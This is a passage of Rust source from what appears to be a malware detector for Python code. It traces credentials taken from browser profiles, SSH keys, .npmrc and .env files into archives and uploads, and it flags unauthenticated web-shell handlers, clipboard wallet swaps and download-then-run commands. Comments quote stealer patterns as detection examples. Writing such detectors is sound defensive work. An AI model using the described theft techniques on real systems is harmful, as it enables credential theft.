                "{label} ({}, one of {} listed)",
                crate::text::shorten(text, 60),
                items.len()
            ))
        })
    }

    /// The first file name of a browser profile (`logins.json`, `Login Data`) in a constant
    /// list of names, which names a store only once joined to a profile folder.
    fn listed_browser_file(&self, iterable: &Expr) -> Option<String> {
        let items = match self.scopes.fold(iterable) {
            Some(crate::fold::Value::Seq(items)) => items,
            Some(single @ crate::fold::Value::Str(_)) => vec![single],
            _ => return None,
        };
        items
            .iter()
            .take(256)
            .filter_map(crate::fold::Value::as_text)
            .find(|text| rules::sources::is_browser_profile_file(text))
    }

    /// `if f in ('Cookies', 'Login Data'):` on a name not known as a constant: inside the
    /// branch the name is one of those browser profile files (see [`Self::listed_browser_file`]).
    /// `if f in ('.npmrc', '.pypirc', 'id_rsa'):` while walking a folder: the name is one of
    /// those credential stores, and what is opened by it is read from one, as in a loop over
    /// the same list (see [`Self::listed_credential_store`]).
    /// `if f == 'Login Data':` and `if f.endswith(('id_rsa', '.env')):` pick files the same
    /// way. The binding holds for the `if`'s body only: the caller undoes it (see [`Narrowed`]).
    fn narrow_to_browser_file(&mut self, test: &'s Expr) -> Option<Narrowed<'s>> {
        let (picked, choices) = match test {
            Expr::Compare(compare) => match (&*compare.ops, &*compare.comparators) {
                ([ast::CmpOp::In | ast::CmpOp::Eq], [choices]) => (&*compare.left, choices),
                _ => return None,
            },
            // `if f.endswith(('.env', 'id_rsa')):` picks the same files by their ends.
            Expr::Call(call) => match (&*call.func, &*call.arguments.args) {
                (Expr::Attribute(method), [choices])
                    if method.attr.as_str() == "endswith" && call.arguments.keywords.is_empty() =>
                {
                    (&*method.value, choices)
                }
                _ => return None,
            },
            _ => return None,
        };
        let Expr::Name(name) = picked else {
            return None;
        };
        if self.scopes.fold(picked).is_some() {
            return None;
        }
        if let Some(file) = self.listed_browser_file(choices) {
            let previous = self.scopes.partial(name.id.as_str()).map(str::to_owned);
            self.scopes.bind_partial(name.id.as_str(), file);
            return Some(Narrowed::File(name.id.as_str(), previous));
        }
        if self.scopes.taint_of(name.id.as_str()).is_none()
            && let Some(label) = self
                .listed_credential_store(choices)
                .or_else(|| self.listed_dotenv_file(choices))
        {
            let source = self.add_source(label, choices.range(), SourceKind::Secret);
            self.scopes.taint(name.id.as_str(), source);
            return Some(Narrowed::Store(name.id.as_str()));
        }
        None
    }

    /// `.env` (or `.env.production`) among the names a file is picked by. Read on its own a
    /// dotenv file is an application's settings; a file picked out by that name, as stealers
    /// pick them while walking the disk, is taken for the API keys such files hold.
    fn listed_dotenv_file(&self, choices: &Expr) -> Option<String> {
        let names: Vec<String> = match self.scopes.fold(choices)? {
            crate::fold::Value::Seq(items) => items
                .iter()
                .take(256)
                .filter_map(crate::fold::Value::as_text)
                .collect(),
            other => vec![other.as_text()?],
        };
        let dotenv = names.iter().find(|name| {
            let name = name.trim_start_matches('*');
            name == ".env"
                || name
                    .strip_prefix(".env.")
                    .is_some_and(|rest| !rest.is_empty())
        })?;
        Some(format!("dotenv secrets file ({dotenv}), picked by name"))
    }

    /// The messaging framework whose incoming messages `function` handles: a chat bot's
    /// message or command handler (discord `@client.event` `on_message`, `@bot.command()`,
    /// telebot/aiogram `@bot.message_handler()`, `@router.message()`, pyrogram
    /// `@app.on_message()`, telethon `@client.on(events.NewMessage)`), or a websocket
    /// client's `on_message=` callback.
    fn message_handler_of(&self, function: &ast::StmtFunctionDef) -> Option<&'static str> {
        if self.message_callbacks.contains(function.name.as_str()) {
            return Some("websocket");
        }
        function.decorator_list.iter().find_map(|decorator| {
            let expr = match &decorator.expression {
                Expr::Call(call) => &*call.func,
                other => other,
            };
            let Expr::Attribute(attribute) = expr else {
                return None;
            };
            // `@app.command()` is also how click and typer declare command-line commands:
            // only a chat library's client or router makes it a chat command.
            let receiver = self.scopes.qualname(&attribute.value)?;
            let chat_library = receiver
                .split(['.', '('])
                .next()
                .is_some_and(|root| CHAT_LIBRARIES.contains(&root));
            if !chat_library {
                return None;
            }
            match attribute.attr.as_str() {
                "event" if function.name.as_str() == "on_message" => Some("chat bot"),
                "command"
                | "hybrid_command"
                | "slash_command"
                | "message_handler"
                | "channel_post_handler"
                | "on_message" => Some("chat bot"),
                "message" if matches!(&decorator.expression, Expr::Call(_)) => Some("chat bot"),
                // Socket.IO clients: `@sio.on('cmd')` handlers get what the server emits.
                "on" | "event" if receiver.starts_with("socketio.") => Some("Socket.IO"),
                "on" if matches!(&decorator.expression, Expr::Call(call)
                if call.arguments.args.first().is_some_and(|event| {
                    self.scopes
                        .qualname(event)
                        .is_some_and(|q| q.ends_with("NewMessage"))
                })) =>
                {
                    Some("chat bot")
                }
                _ => None,
            }
        })
    }

    /// The web framework whose requests `function` serves, and whether every parameter holds
    /// part of the request (a routed function: `@app.get('/run/{cmd}') def run(cmd)`) or only
    /// the one named `request` (a Django or aiohttp view in a module importing the framework).
    fn web_request_handler_of(&self, function: &ast::StmtFunctionDef) -> Option<(String, bool)> {
        let (framework, every_parameter) = self.web_request_framework_of(function)?;
        let label = if self.requires_authentication(function) {
            format!(
                "{framework} handler {}{}",
                function.name.as_str(),
                rules::sources::BEHIND_AUTHENTICATION
            )
        } else {
            format!("{framework} handler {}", function.name.as_str())
        };
        Some((label, every_parameter))
    }

    /// True when a request handler checks who is calling before it runs: an auth decorator
    /// (`@login_required`, `@staff_member_required`, `@permission_required(…)`,
    /// `@jwt_required()`), an auth dependency (`user = Depends(get_current_user)`,
    /// `Security(api_key_auth)`), or a constant-time token comparison in the module. Remote
    /// consoles and admin endpoints that are features authenticate; web shells answer anyone.
    fn requires_authentication(&self, function: &ast::StmtFunctionDef) -> bool {
        const AUTH_WORDS: &[&str] = &[
            "auth",
            "login",
            "user",
            "admin",
            "staff",
            "superuser",
            "permission",
            "token",
            "api_key",
            "apikey",
            "jwt",
            "requires",
            "current",
        ];
        let auth_name = |name: &str| {
            let name = name.to_ascii_lowercase();
            AUTH_WORDS.iter().any(|word| name.contains(word))
        };
        if rules::sources::compares_secrets(self.text) {
            return true;
        }
        let decorated = function.decorator_list.iter().any(|decorator| {
            let expr = match &decorator.expression {
                Expr::Call(call) => &*call.func,
                other => other,
            };
            self.scopes
                .qualname(expr)
                .is_some_and(|q| auth_name(q.rsplit('.').next().unwrap_or(&q)))
        });
        decorated
            || function
                .parameters
                .iter_non_variadic_params()
                .take(32)
                .filter_map(|p| p.default.as_deref())
                .any(|default| {
                    let Expr::Call(call) = default else {
                        return false;
                    };
                    let dependency = self
                        .scopes
                        .qualname(&call.func)
                        .is_some_and(|q| q.ends_with("Depends") || q.ends_with("Security"));
                    dependency
                        && call
                            .arguments
                            .args
                            .first()
                            .and_then(|arg| self.scopes.qualname(arg))
                            .is_some_and(|q| auth_name(&q))
                })
    }

    fn web_request_framework_of(&self, function: &ast::StmtFunctionDef) -> Option<(String, bool)> {
        let routed = function.decorator_list.iter().find_map(|decorator| {
            let (expr, called) = match &decorator.expression {
                Expr::Call(call) => (&*call.func, true),
                other => (other, false),
            };
            let qualname = self.scopes.qualname(expr)?;
            let root = qualname.split(['.', '(']).next()?;
            if !WEB_FRAMEWORKS.contains(&root) {
                return None;
            }
            let verb = qualname.rsplit('.').next()?;
            // `@app.route('/x')` is called with the path; `@bottle.get` and friends may be bare.
            (ROUTE_VERBS.contains(&verb) && (called || root == "bottle")).then(|| root.to_owned())
        });
        if let Some(framework) = routed {
            return Some((framework, true));
        }
        let framework = self.facts.top_level_imports.iter().find_map(|module| {
            REQUEST_PARAMETER_FRAMEWORKS
                .iter()
                .find(|framework| {
                    module
                        .strip_prefix(**framework)
                        .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
                })
                .map(|framework| (*framework).to_owned())
        })?;
        function
            .parameters
            .iter_non_variadic_params()
            .take(2)
            .any(|p| p.parameter.name.as_str() == "request")
            .then_some((framework, false))
    }

    /// The request-reading attributes of a request handler class (`class H(BaseHTTPRequestHandler)`:
    /// `self.rfile`, `self.path`, …; see [`REQUEST_HANDLER_BASES`]), with the base's name.
    fn request_handler_attributes(
        &self,
        class: &ast::StmtClassDef,
    ) -> Option<(String, &'static [&'static str])> {
        class
            .arguments
            .as_ref()?
            .args
            .iter()
            .take(8)
            .filter_map(|base| self.scopes.qualname(base))
            .find_map(|base| {
                REQUEST_HANDLER_BASES
                    .iter()
                    .find(|(prefix, _)| base.starts_with(prefix) && base.ends_with("Handler"))
                    .map(|(_, attributes)| (base.clone(), *attributes))
            })
    }

    pub(crate) fn iterates_file_lines(&self, iterable: &Expr) -> bool {
        let opens = |qualname: &str| {
            matches!(
                qualname,
                "open" | "io.open" | "codecs.open" | "open()" | "io.open()" | "codecs.open()"
            )
        };
        match iterable {
            Expr::Name(_) => self.scopes.qualname(iterable).is_some_and(|q| opens(&q)),
            Expr::Call(call) => {
                if let Some(q) = self.scopes.qualname(&call.func)
                    && opens(&q)
                {
                    return true;
                }
                let Expr::Attribute(attribute) = &*call.func else {
                    return false;
                };
                match attribute.attr.as_str() {
                    "readlines" => {
                        self.iterates_file_lines(&attribute.value)
                            || self
                                .scopes
                                .qualname(&attribute.value)
                                .is_some_and(|q| opens(&q))
                    }
                    "splitlines" => {
                        crate::rules::dynamic_exec::is_file_read(self, &attribute.value)
                    }
                    _ => false,
                }
            }
            _ => false,
        }
    }

    /// Counts one unit of work against the time budget; true once it is spent.
    pub fn out_of_time(&mut self) -> bool {
        self.deadline.tick()
    }

    /// Makes decoder functions of the carrying module callable from a decoded layer.
    pub fn inherit_wrappers(
        &mut self,
        wrappers: &[(String, std::rc::Rc<crate::resolve::Wrapper>)],
    ) {
        for (name, wrapper) in wrappers {
            self.scopes.bind_shared_wrapper(name, wrapper.clone());
        }
    }

    /// Declares that a file running in `context` imports this module, so its top level runs then.
    pub fn imported_in(&mut self, context: ExecContext) {
        self.imported_context = Some(context);
    }

    /// `items.append(secret)`, `found.extend(lines)`, `seen.add(x)`, `message.set_content(x)`:
    /// the container now holds what the argument carries, as `items = [secret]` would.
    fn taint_container(&mut self, call: &ast::ExprCall) {
        let Expr::Attribute(attribute) = &*call.func else {
            return;
        };
        self.taint_download_buffer(call, attribute);
        // `screenshot().save(buffer, 'PNG')`, `buffer.write(secret)`: the buffer now holds it.
        if matches!(
            attribute.attr.as_str(),
            "save" | "write" | "writelines" | "dump"
        ) {
            // Only in-memory buffers, whose bytes are what gets sent: a temporary file written
            // and handed to a program by name is no such carrier.
            let is_buffer = |walker: &Self, expr: &Expr| {
                matches!(expr, Expr::Name(name) if matches!(
                    walker.scopes.alias(name.id.as_str()),
                    Some("io.BytesIO()" | "io.StringIO()")
                ))
            };
            let (from, into) = if is_buffer(self, &attribute.value) {
                (call.arguments.args.first(), Some(&*attribute.value))
            } else if let Some(into) = call.arguments.args.iter().find(|a| is_buffer(self, a))
                && self.source_in(&attribute.value).is_none()
            {
                // A library function writing its data arguments into the buffer:
                // `wavfile.write(buffer, rate, recording)`, `pickle.dump(secrets, buffer)`.
                let from = call
                    .arguments
                    .args
                    .iter()
                    .find(|a| !is_buffer(self, a) && self.source_in(a).is_some());
                (from, Some(into))
            } else {
                (Some(&*attribute.value), call.arguments.args.first())
            };
            if let (Some(from), Some(into @ Expr::Name(buffer))) = (from, into)
                && is_buffer(self, into)
                && let Some(source) = self.source_in(from)
            {
                self.scopes.taint(buffer.id.as_str(), source);
            }
            return;
        }
        if !matches!(
            attribute.attr.as_str(),
            "append"
                | "extend"
                | "add"
                | "insert"
                | "appendleft"
                | "update"
                // A queue shared by threads holds what one of them puts on it.
                | "put"
                | "put_nowait"
                // An e-mail message holds the body and attachments it is given.
                | "set_content"
                | "set_payload"
                | "attach"
                | "add_attachment"
                // `session.cookies.set(name, secret)`: a cookie jar sent with each request.
                | "set"
                | "set_cookie"
        ) {
            return;
        }
        // `session.headers.update({...})`: the session holds what its headers hold.
        let mut receiver = &*attribute.value;
        while let Expr::Attribute(inner) = receiver {
            receiver = &inner.value;
        }
        let Expr::Name(container) = receiver else {
            return;
        };
        let nested = !matches!(&*attribute.value, Expr::Name(_));
        if nested && matches!(container.id.as_str(), "self" | "cls") {
            return;
        }
        if let Some(source) = call
            .arguments
            .args
            .iter()
            .find_map(|arg| self.source_in(arg))
        {
            // A module-level list or queue a function fills is what other functions read.
            if !nested && self.scopes.is_module_binding(container.id.as_str()) {
                self.scopes.taint_module(container.id.as_str(), source);
            }
            self.scopes.taint(container.id.as_str(), source);
        }
    }

    /// `config.read(path)` on a config parser: the parser now holds what the file holds, so
    /// `config.get(section, 'aws_secret_access_key')` reads the credentials file it was given.
    fn taint_loaded_parser(&mut self, call: &ast::ExprCall, qualname: &str) {
        let Expr::Attribute(attribute) = &*call.func else {
            return;
        };
        let Expr::Name(parser) = &*attribute.value else {
            return;
        };
        if !matches!(attribute.attr.as_str(), "read" | "read_file" | "readfp")
            || !rules::sources::is_config_parser_load(qualname)
        {
            return;
        }
        let Some(argument) = call.arguments.args.first() else {
            return;
        };
        let source = match self.source_in(argument) {
            Some(source) if self.source_strength(source) >= SourceKind::STRONG => source,
            _ => {
                let Some(label) = self
                    .scopes
                    .fold_lossy(argument)
                    .and_then(|path| rules::sources::secret_path_label(&path))
                else {
                    return;
                };
                self.add_source(label.to_owned(), argument.range(), SourceKind::Secret)
            }
        };
        self.scopes.taint(parser.id.as_str(), source);
    }

    /// Gives the walk what this file imports from sibling modules (see [`crate::exports`]).
    pub fn import_values(&mut self, imported: Vec<(String, crate::exports::Exports)>) {
        self.imported = imported;
    }

    /// Binds what `from {module} import {name}` brings in when `module` is a sibling that
    /// exports it; `*` brings in every export.
    fn bind_imported(&mut self, module: &str, name: &str, bound: &str) {
        // A package's `__init__` and the module it re-exports from may both answer.
        let found: Vec<crate::exports::Exports> = self
            .imported
            .iter()
            .filter(|(m, _)| m == module)
            .map(|(_, e)| e.clone())
            .collect();
        for exports in found {
            self.bind_imported_from(&exports, name, bound);
        }
    }

    fn bind_imported_from(&mut self, exports: &crate::exports::Exports, name: &str, bound: &str) {
        use crate::exports::Exported;
        let mut brought_decoder = false;
        for export in exports.iter() {
            // `Collector().collect`: what a method of the imported class returns.
            if let Exported::Returns(source) = &export.value
                && let Some((class, method)) = export.name.split_once("().")
                && (name == "*" || class == name)
            {
                let local_class = if name == "*" { class } else { bound };
                let target = self
                    .scopes
                    .alias(local_class)
                    .map_or_else(|| local_class.to_owned(), str::to_owned);
                self.bind_returned(
                    format!("{target}().{method}"),
                    source,
                    &format!("{class}().{method}"),
                );
                continue;
            }
            let wanted = name == "*" || export.name == name;
            if !wanted {
                continue;
            }
            let local = if name == "*" {
                export.name.as_str()
            } else {
                bound
            };
            match &export.value {
                Exported::Constant(value) => self.scopes.bind_constant(local, value.clone()),
                Exported::Wrapper(wrapper) => {
                    self.scopes
                        .bind_shared_wrapper(local, std::rc::Rc::new(wrapper.as_ref().clone()));
                    brought_decoder = true;
                }
                Exported::Alias(target) if name == "*" => {
                    self.scopes.bind_alias(local, target.clone());
                }
                Exported::Alias(_) => {}
                Exported::Returns(source) => self.bind_returned(local.to_owned(), source, local),
                Exported::Holds(source) => {
                    let index = self.push_source(SourceRef {
                        label: format!("{} (imported as {local})", source.label),
                        ..source.clone()
                    });
                    self.imported_holdings.insert(index);
                    self.scopes.taint(local, index);
                }
            }
        }
        // A decoder's body names the exporter's imports (`ba.b64decode`): give them to the
        // importer where it has no binding of its own.
        if brought_decoder && name != "*" {
            for export in exports.iter() {
                if let Exported::Alias(target) = &export.value
                    && self.scopes.alias(&export.name).is_none()
                    && self.scopes.constant(&export.name).is_none()
                {
                    self.scopes.bind_alias(&export.name, target.clone());
                }
            }
        }
    }

    /// Binds what the functions of the sibling `module` (as the import wrote it) return, for
    /// calls spelled through the module (`helper.collect()`, resolving to `{resolved}.collect`).
    fn bind_module_returns(&mut self, module: &str, resolved: &str) {
        use crate::exports::Exported;
        let returned: Vec<(String, SourceRef)> = self
            .imported
            .iter()
            .filter(|(m, _)| m == module)
            .flat_map(|(_, exports)| exports.iter())
            .filter_map(|export| match &export.value {
                Exported::Returns(source) => Some((export.name.clone(), source.clone())),
                _ => None,
            })
            .collect();
        for (function, source) in returned {
            self.bind_returned(format!("{resolved}.{function}"), &source, &function);
        }
    }

    /// Calls resolving to `key` return `source`, which another module's function `callee`
    /// reads: the importer's call reads it, at the exporter's line.
    fn bind_returned(&mut self, key: String, source: &SourceRef, callee: &str) {
        if self.return_taints.len() >= MAX_RETURN_TAINTS {
            return;
        }
        let index = self.push_source(SourceRef {
            label: format!("{} (returned by {callee}())", source.label),
            ..source.clone()
        });
        self.imported_returns.insert(key.clone());
        self.return_taints.insert(key, index);
    }

    /// What this module offers the modules that import from it. Scopes are hash maps with
    /// per-process seeds, so names are sorted first: which names fit the bounds, and the
    /// reports built from them, must not change from run to run.
    fn collect_exports(&self) -> crate::exports::Exports {
        let mut constants: Vec<(&str, &crate::fold::Value)> =
            self.scopes.module_constants().collect();
        constants.sort_unstable_by_key(|(name, _)| *name);
        let decodes =
            |expr: &Expr| crate::rules::dynamic_exec::contains_decoding(self, expr).is_some();
        let mut wrappers: Vec<(&str, &crate::resolve::Wrapper)> = self
            .scopes
            .all_wrappers()
            .filter(|(_, wrapper)| {
                wrapper.steps.iter().any(|(_, step)| decodes(step)) || decodes(&wrapper.body)
            })
            .collect();
        wrappers.sort_unstable_by_key(|(name, _)| *name);
        let mut aliases: Vec<(&str, &str)> = self.scopes.module_aliases().collect();
        aliases.sort_unstable();
        let mut exports = crate::exports::collect(
            constants.into_iter(),
            wrappers.into_iter(),
            aliases.into_iter(),
        );
        // Methods are keyed `.name` (for `self.name()`, the class's own business) and
        // `Class().name` (for calls on an instance, which importers make too).
        let mut returning: Vec<(&str, &SourceRef)> = self
            .return_taints
            .iter()
            .filter(|(name, _)| !name.starts_with('.') && !self.imported_returns.contains(*name))
            .filter_map(|(name, &index)| Some((name.as_str(), self.sources.get(index)?)))
            .filter(|(_, source)| !source.passed_in)
            .collect();
        returning.sort_unstable_by_key(|(name, _)| *name);
        exports.extend(crate::exports::returning(returning.into_iter()));
        let mut holding: Vec<(&str, &SourceRef)> = self
            .scopes
            .module_taints()
            .filter(|(_, index)| !self.imported_holdings.contains(index))
            .filter_map(|(name, index)| Some((name, self.sources.get(index)?)))
            .filter(|(_, source)| !source.passed_in)
            .collect();
        holding.sort_unstable_by_key(|(name, _)| *name);
        exports.extend(crate::exports::holding(holding.into_iter()));
        std::sync::Arc::new(exports)
    }

    /// Declares that a file running in `context` starts this module as a program.
    pub fn run_as_program_in(&mut self, context: ExecContext) {
        self.imported_context = Some(context);
        self.run_as_program = true;
    }

    /// The function body being walked: its `def` line, 0 at module level.
    fn current_scope(&self) -> u32 {
        self.scope_lines.last().copied().unwrap_or(0)
    }

    /// Records that the module reads the clipboard.
    pub fn note_clipboard_read(&mut self) {
        self.read_clipboard = true;
    }

    /// True once the module was seen reading the clipboard.
    pub fn has_read_clipboard(&self) -> bool {
        self.read_clipboard
    }

    /// True inside a table of endpoint indicators (see [`rules::suspicious_endpoint::is_indicator_table`]).
    pub fn in_indicator_table(&self) -> bool {
        self.in_indicator_table
    }

    /// True while walking the value of an assignment to a documentation name
    /// (`example = 'recursive:https://pastebin.com/raw/…'`, `usage`, `help_text`).
    pub fn in_documentation_value(&self) -> bool {
        self.in_documentation_value
    }

    /// Records a wallet address written as a literal (see `clipper::on_string`).
    pub fn note_wallet_literal(&mut self, address: &str, coin: &'static str) {
        if self.wallet_literal.is_none() {
            self.wallet_literal = Some((crate::text::shorten(address, 64), coin));
        }
    }

    /// The first wallet address literal seen so far.
    pub fn wallet_literal(&self) -> Option<&(String, &'static str)> {
        self.wallet_literal.as_ref()
    }

    /// Records that `path` (folded, `…` for unknown parts) receives `what` at `range`.
    pub fn note_saved_file(&mut self, path: &OpenedPath, what: String, range: TextRange) {
        if self.saved_files.len() >= MAX_SAVED_FILES
            || (saved_file_needle(&path.text).is_none() && path.variable.is_none())
        {
            return;
        }
        let location = self.location(range);
        self.saved_files.push(SavedFile {
            path: path.text.clone(),
            what,
            location,
            variable: path.variable.clone(),
            scope: self.current_scope(),
        });
    }

    /// `open(p, …)`'s path as written: the variable name, when it is one.
    pub fn path_of(&self, expr: &Expr) -> OpenedPath {
        OpenedPath {
            text: rules::partial_text(self, expr)
                .unwrap_or_else(|| crate::fold::UNKNOWN.to_owned()),
            variable: match expr {
                Expr::Name(name) => Some(name.id.as_str().to_owned()),
                _ => None,
            },
        }
    }

    /// The path a file handle expression writes to: `open(p, 'w')` itself, or a name last
    /// bound to one.
    pub fn written_path(&self, handle: &Expr) -> Option<OpenedPath> {
        match handle {
            Expr::Name(name) => self.handle_paths.get(name.id.as_str()).cloned(),
            Expr::Call(_) => self.opened_path(handle),
            _ => None,
        }
    }

    /// `open(p, …)`, `io.open(p, …)`, `pathlib.Path(p)`: the path, as far as it folds.
    pub(crate) fn opened_path(&self, expr: &Expr) -> Option<OpenedPath> {
        let Expr::Call(call) = expr else {
            return None;
        };
        // Most calls open nothing: the spelling is checked before the name is resolved.
        let spelled = match &*call.func {
            Expr::Name(name) => name.id.as_str(),
            Expr::Attribute(attribute) => attribute.attr.as_str(),
            _ => return None,
        };
        if !matches!(spelled, "open" | "Path") {
            return None;
        }
        let qualname = self.scopes.qualname(&call.func)?;
        if !matches!(
            qualname.as_str(),
            "open" | "io.open" | "codecs.open" | "pathlib.Path" | "Path"
        ) {
            return None;
        }
        // `Path(site_dir, 'usercustomize.py')`: the parts are joined as pathlib joins them.
        if qualname.ends_with("Path") && call.arguments.args.len() > 1 {
            let text = call
                .arguments
                .args
                .iter()
                .take(16)
                .map(|part| {
                    rules::partial_text(self, part)
                        .unwrap_or_else(|| crate::fold::UNKNOWN.to_owned())
                })
                .collect::<Vec<_>>()
                .join("/");
            return Some(OpenedPath {
                text,
                variable: None,
            });
        }
        // A path computed at run time is still a file being written.
        Some(self.path_of(call.arguments.args.first()?))
    }

    /// Remembers (or forgets) which path the handle `name` writes to.
    fn bind_handle(&mut self, name: &str, value: &Expr) {
        // Both binders ask what the value calls: resolved once.
        let called = match value {
            Expr::Call(call) => self.scopes.qualname(&call.func).map(|q| (call, q)),
            _ => None,
        };
        if let Some((call, qualname)) = &called
            && qualname == "socket.socket"
            && call
                .arguments
                .args
                .first()
                .or_else(|| rules::keyword(call, "family"))
                .and_then(|family| self.scopes.qualname(family))
                .is_some_and(|family| family == "socket.AF_UNIX")
            && self.local_sockets.len() < 64
        {
            self.local_sockets.insert(name.to_owned());
        }
        match called
            .as_ref()
            .and_then(|(call, _)| rules::log_shipping::remote_handler(self, call))
        {
            Some(handler) if self.remote_handlers.len() < 64 => {
                self.remote_handlers.insert(name.to_owned(), handler);
            }
            _ => {
                if !self.remote_handlers.is_empty() {
                    self.remote_handlers.remove(name);
                }
            }
        }
        self.bind_archive_buffer(name, called.as_ref().map(|(c, q)| (*c, q.as_str())));
        self.bind_process(name, called.as_ref().map(|(c, q)| (*c, q.as_str())));
        if let Some((call, qualname)) = &called {
            self.bind_downloaded_file(name, call, qualname);
        }
        match self.opened_path(value) {
            Some(path) if self.handle_paths.len() < 256 => {
                self.handle_paths.insert(name.to_owned(), path);
            }
            _ => {
                self.handle_paths.remove(name);
            }
        }
    }

    /// `ftp.retrbinary('RETR x', buffer.write)`, `curl.setopt(pycurl.WRITEDATA, buffer)`: the
    /// client writes what it downloads into the buffer (or list) it is handed.
    fn taint_download_buffer(&mut self, call: &ast::ExprCall, attribute: &ast::ExprAttribute) {
        let handed = match attribute.attr.as_str() {
            "retrbinary" | "retrlines" => call.arguments.args.get(1),
            "setopt" => match call.arguments.args.as_ref() {
                [Expr::Attribute(option), value]
                    if matches!(option.attr.as_str(), "WRITEDATA" | "WRITEFUNCTION") =>
                {
                    Some(value)
                }
                _ => None,
            },
            _ => return,
        };
        // The buffer itself, or its bound `write`/`append` method.
        let buffer = match handed {
            Some(Expr::Name(name)) => name,
            Some(Expr::Attribute(method))
                if matches!(method.attr.as_str(), "write" | "append" | "extend") =>
            {
                match &*method.value {
                    Expr::Name(name) => name,
                    _ => return,
                }
            }
            _ => return,
        };
        let Some(qualname) = self.scopes.qualname(&call.func) else {
            return;
        };
        let client = qualname.rsplit_once('.').map_or("", |(base, _)| base);
        if !matches!(
            client,
            "ftplib.FTP()" | "ftplib.FTP_TLS()" | "pycurl.Curl()"
        ) {
            return;
        }
        let label = format!(
            "what {} downloads into `{}`",
            client.trim_end_matches("()"),
            buffer.id
        );
        let source = self.add_source(label, call.range(), SourceKind::Network);
        self.scopes.taint(buffer.id.as_str(), source);
    }

    /// Notes `name = wget.download(url)` (or `gdown.download`): `name` is the path of the
    /// downloaded file, wherever the library put it.
    fn bind_downloaded_file(&mut self, name: &str, call: &ast::ExprCall, qualname: &str) {
        if !rules::network::returns_downloaded_path(qualname) {
            return;
        }
        let url = call
            .arguments
            .args
            .first()
            .or_else(|| rules::keyword(call, "url"))
            .and_then(|url| rules::partial_text(self, url))
            .unwrap_or_else(|| "a computed address".to_owned());
        let text = call
            .arguments
            .args
            .get(1)
            .or_else(|| rules::keyword(call, "out"))
            .or_else(|| rules::keyword(call, "output"))
            .and_then(|out| rules::partial_text(self, out))
            .unwrap_or_else(|| crate::fold::UNKNOWN.to_owned());
        let path = OpenedPath {
            text,
            variable: Some(name.to_owned()),
        };
        let what = format!("the download of {}", crate::text::shorten(&url, 100));
        self.note_saved_file(&path, what, call.range());
    }

    /// Notes `name = os.popen(cmd)` or `subprocess.Popen(cmd, stdout=PIPE)`, whose output
    /// `name.read()` or `name.communicate()` returns later.
    fn bind_process(&mut self, name: &str, called: Option<(&ast::ExprCall, &str)>) {
        self.process_commands.remove(name);
        let Some((call, qualname)) = called else {
            return;
        };
        if !matches!(qualname, "os.popen" | "subprocess.Popen")
            || self.process_commands.len() >= 256
        {
            return;
        }
        if let Some(command) = call
            .arguments
            .args
            .first()
            .or_else(|| rules::keyword(call, "args"))
            .and_then(|command| rules::command_text(self, command))
        {
            self.process_commands.insert(name.to_owned(), command);
        }
    }

    /// The command of the process `name` was bound to (see [`Self::bind_process`]).
    pub fn process_command(&self, name: &str) -> Option<&str> {
        self.process_commands.get(name).map(String::as_str)
    }

    /// Notes `name = zipfile.ZipFile(buffer, 'w')` (or `tarfile.open(fileobj=buffer, …)`)
    /// for [`Self::taint_archive`].
    fn bind_archive_buffer(&mut self, name: &str, called: Option<(&ast::ExprCall, &str)>) {
        self.archive_buffers.remove(name);
        let Some((call, qualname)) = called else {
            return;
        };
        let buffer = match qualname {
            "zipfile.ZipFile" | "zipfile.PyZipFile" => call
                .arguments
                .args
                .first()
                .or_else(|| rules::keyword(call, "file")),
            "tarfile.open" | "tarfile.TarFile" => rules::keyword(call, "fileobj"),
            _ => None,
        };
        if let Some(Expr::Name(buffer)) = buffer
            && self.archive_buffers.len() < 64
        {
            self.archive_buffers
                .insert(name.to_owned(), buffer.id.to_string());
        }
    }

    /// `archive.write(path)`, `tar.add(path)` with a path under a credential store: the
    /// archive (and the buffer it is written into) now holds the store, as reading it would.
    /// Stealers zip a browser profile or `~/.ssh` and upload the archive's bytes.
    fn taint_archive(&mut self, call: &ast::ExprCall, qualname: &str) {
        let archives = qualname.ends_with("ZipFile().write")
            || qualname.ends_with("tarfile.open().add")
            || qualname.ends_with("TarFile().add");
        if !archives {
            return;
        }
        let Expr::Attribute(method) = &*call.func else {
            return;
        };
        let Expr::Name(archive) = &*method.value else {
            return;
        };
        let Some(path_arg) = call.arguments.args.first() else {
            return;
        };
        let named_store = rules::partial_text(self, path_arg)
            .and_then(|path| rules::sources::store_source_label(&path))
            .map(|label| self.add_source(label, call.range(), SourceKind::Secret));
        // `for f in glob.glob(join(profile, '*', 'logins.json')): z.write(f)`: a name that
        // already stands for a store's files.
        let source = named_store.or_else(|| {
            self.source_in(path_arg).filter(|&index| {
                self.sources
                    .get(index)
                    .is_some_and(|s| s.kind == SourceKind::Secret)
            })
        });
        let Some(source) = source else {
            return;
        };
        self.scopes.taint(archive.id.as_str(), source);
        if let Some(buffer) = self.archive_buffers.get(archive.id.as_str()).cloned() {
            self.scopes.taint(&buffer, source);
        }
    }

    /// The saved file a command names: `bash /tmp/.x.sh` after `urlretrieve(url, '/tmp/.x.sh')`.
    pub fn saved_file_in(&self, command: &str, argument: Option<&Expr>) -> Option<&SavedFile> {
        let runner = starts_its_arguments(command);
        let named = |variable: &str| {
            let is_it = |e: &Expr| matches!(e, Expr::Name(n) if n.id.as_str() == variable);
            match argument {
                Some(
                    Expr::List(ast::ExprList { elts, .. })
                    | Expr::Tuple(ast::ExprTuple { elts, .. }),
                ) => elts.first().is_some_and(is_it) || runner && elts.iter().any(is_it),
                Some(other) => is_it(other),
                None => false,
            }
        };
        let scope = self.current_scope();
        // `load(_cached_extension())`, `[fetch_tool(), "--daemon"]`: a helper of this module
        // that saves a download and returns the variable holding its path.
        let helper = match argument {
            Some(
                Expr::List(ast::ExprList { elts, .. }) | Expr::Tuple(ast::ExprTuple { elts, .. }),
            ) => elts.first(),
            other => other,
        }
        .and_then(|first| match first {
            Expr::Call(call) => match &*call.func {
                Expr::Name(callee) => self.functions.get(callee.id.as_str()),
                _ => None,
            },
            _ => None,
        })
        .map(|function| {
            (
                self.position(function.range()).0,
                returned_names(&function.body),
            )
        });
        self.saved_files.iter().find(|saved| {
            saved_file_needle(&saved.path).is_some_and(|needle| starts_named(command, needle))
                || saved.scope == scope && saved.variable.as_deref().is_some_and(named)
                || helper.as_ref().is_some_and(|(line, returned)| {
                    saved.scope == *line
                        && saved
                            .variable
                            .as_deref()
                            .is_some_and(|v| returned.iter().any(|r| r == v))
                })
        })
    }

    /// The first saved file whose folded path ends with one of `endings` (`/_svc.py`).
